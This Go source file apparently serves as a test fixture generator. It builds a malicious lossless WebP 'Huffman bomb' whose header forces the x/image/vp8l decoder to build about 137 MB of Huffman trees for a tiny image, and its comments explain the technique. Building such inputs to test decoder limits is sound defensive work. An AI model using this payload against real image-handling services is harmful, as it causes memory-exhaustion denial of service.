package fake

import (
	"bytes"
	"encoding/binary"
)

// WebPHuffmanBomb is a lossless WebP of under a megabyte, 208×200 pixels,
// whose meta-Huffman image names 2,600 Huffman groups (the most
// x/image/vp8l accepts), each of five full-size trees (the green one with
// an 11-bit colour cache): about 137 MB of trees are built before the first
// pixel is read, for an image whose pixels are 166 KB. The stream ends
// after the trees, so the decode fails once they are built.
func WebPHuffmanBomb() []byte {
	const tile = 4 // the meta image's smallest tiles (bits 2)
	const tw, th = 52, 50
	width, height := tw*tile, th*tile
	var w lsbWriter
	w.bits(0x2f, 8) // VP8L signature
	w.bits(uint32(width-1), 14)
	w.bits(uint32(height-1), 14)
	w.bits(0, 1) // alpha hint
	w.bits(0, 3) // version
	w.bits(0, 1) // no transform
	w.bits(1, 1) // colour cache
	w.bits(11, 4)
	w.bits(1, 1) // meta-Huffman image
	w.bits(0, 3) // of 4×4 tiles
	// The meta image: no colour cache; each tile names its own group,
	// as green (low byte) and red (high byte).
	w.bits(0, 1)
	green, red := completeLengths(280), completeLengths(256)
	writeNormalTree(&w, green)
	writeNormalTree(&w, red)
	writeSimpleTree(&w) // blue
	writeSimpleTree(&w) // alpha
	writeSimpleTree(&w) // distance
	gc, rc := canonicalCodes(green), canonicalCodes(red)
	for i := range tw * th {
		r, g := i>>8, i&0xff
		w.code(gc[g], uint(green[g]))
		w.code(rc[r], uint(red[r]))
	}
	// The groups, each as large as its alphabets allow.
	g := completeLengths(256 + 24 + 2048)
	l256, l40 := completeLengths(256), completeLengths(40)
	for range tw * th {
		for _, lengths := range [][]uint32{g, l256, l256, l256, l40} {
			writeNormalTree(&w, lengths)
		}
	}
	data := w.flush()
	if len(data)%2 == 1 {
		data = append(data, 0)
	}
	var b bytes.Buffer
	b.WriteString("RIFF")
	binary.Write(&b, binary.LittleEndian, uint32(4+8+len(data)))
	b.WriteString("WEBPVP8L")
	binary.Write(&b, binary.LittleEndian, uint32(len(data)))
	b.Write(data)
	return b.Bytes()
}

// lsbWriter writes VP8L's bit stream: values least significant bit first,
// Huffman codes most significant bit first.
type lsbWriter struct {
	out  []byte
	acc  uint64
	nacc uint
}

func (w *lsbWriter) bits(v uint32, n uint) {
	w.acc |= uint64(v) << w.nacc
	w.nacc += n
	for w.nacc >= 8 {
		w.out = append(w.out, byte(w.acc))
		w.acc >>= 8
		w.nacc -= 8
	}
}

func (w *lsbWriter) code(c uint32, n uint) {
	for i := int(n) - 1; i >= 0; i-- {
		w.bits((c>>uint(i))&1, 1)
	}
}

func (w *lsbWriter) flush() []byte {
	if w.nacc > 0 {
		w.out = append(w.out, byte(w.acc))
		w.acc, w.nacc = 0, 0
	}
	return w.out
}

// canonicalCodes are the canonical Huffman codes of lengths.
func canonicalCodes(lengths []uint32) []uint32 {
	var hist, next [16]uint32
	for _, l := range lengths {
		hist[l]++
	}
	hist[0] = 0
	c := uint32(0)
	for l := 1; l < 16; l++ {
		c = (c + hist[l-1]) << 1
		next[l] = c
	}
	codes := make([]uint32, len(lengths))
	for s, l := range lengths {
		if l > 0 {
			codes[s] = next[l]
			next[l]++
		}
	}
	return codes
}

// completeLengths are the lengths of a complete code of n symbols, each L
// or L+1 bits.
func completeLengths(n int) []uint32 {
	l := 0
	for 1<<(l+1) <= n {
		l++
	}
	long := 2*n - 1<<(l+1) // symbols of l+1 bits
	out := make([]uint32, n)
	for i := range out {
		out[i] = uint32(l)
		if long > 0 && i >= n-long {
			out[i] = uint32(l + 1)
		}
	}
	return out
}

// codeLengthOrder is the order VP8L sends the code-length code's lengths in.
var codeLengthOrder = [19]int{17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15}

// writeNormalTree writes a tree of the given code lengths (each 0, 5, 6,
// 8, 9, 11 or 12) with a code-length code of eight 3-bit codes: those
// lengths, and 16 (repeat the previous) for runs.
func writeNormalTree(w *lsbWriter, lengths []uint32) {
	var clLens [19]uint32
	for _, s := range []int{0, 5, 6, 8, 9, 11, 12, 16} {
		clLens[s] = 3
	}
	clCodes := canonicalCodes(clLens[:])
	w.bits(0, 1)    // not simple
	w.bits(19-4, 4) // all 19 code-length lengths follow
	for _, s := range codeLengthOrder {
		w.bits(clLens[s], 3)
	}
	w.bits(0, 1) // no max symbol
	for i := 0; i < len(lengths); {
		l := lengths[i]
		if i > 0 && lengths[i-1] == l && l != 0 {
			run := 0
			for i+run < len(lengths) && lengths[i+run] == l && run < 6 {
				run++
			}
			if run >= 3 {
				w.code(clCodes[16], 3)
				w.bits(uint32(run-3), 2)
				i += run
				continue
			}
		}
		w.code(clCodes[l], 3)
		i++
	}
}

// writeSimpleTree writes a simple tree of one symbol, 0.
func writeSimpleTree(w *lsbWriter) {
	w.bits(1, 1) // simple
	w.bits(0, 1) // one symbol
	w.bits(0, 1) // of one bit
	w.bits(0, 1) // symbol 0
}
